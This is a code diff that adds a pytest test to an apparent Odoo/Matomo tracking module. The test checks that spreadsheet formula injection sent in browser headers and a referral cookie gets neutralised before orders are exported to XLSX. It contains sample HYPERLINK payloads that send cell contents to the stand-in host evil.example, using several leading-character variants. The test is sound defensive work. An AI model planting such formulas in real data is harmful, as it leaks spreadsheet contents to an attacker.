@@ -303,6 +303,28 @@ def test_strangers_write_nothing_but_short_text(
         assert text is False or (0 < len(text) <= limit and "\x00" not in text)
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r\n+", " \x00@", "=-="])
+def test_a_shoppers_text_is_no_formula(start):
+    """An exported order began with the formula that a stranger sent as their browser.
+
+    Odoo writes a text that begins with "=" into an XLSX file as a formula.
+    """
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A2)'
+    request = make_request(
+        {"User-Agent": formula, "Accept-Language": formula},
+        {"_pk_ref.1.1fff": json.dumps([formula, formula, 1_762_999_999, ""])},
+    )
+    metadata = read_metadata(request, POLICY)
+    attribution = metadata["matomo_attribution_info"]
+    for text in (
+        metadata["matomo_user_agent"],
+        metadata["matomo_accept_language"],
+        attribution["campaign"],
+        attribution["keyword"],
+    ):
+        assert text.startswith("HYPERLINK")
+
+
 # === WHAT THE ORDER KEEPS === #
 
 RECEIPT = {"answer": True, "source": "cookie_bar", "date": "2025-11-01 10:00:00"}
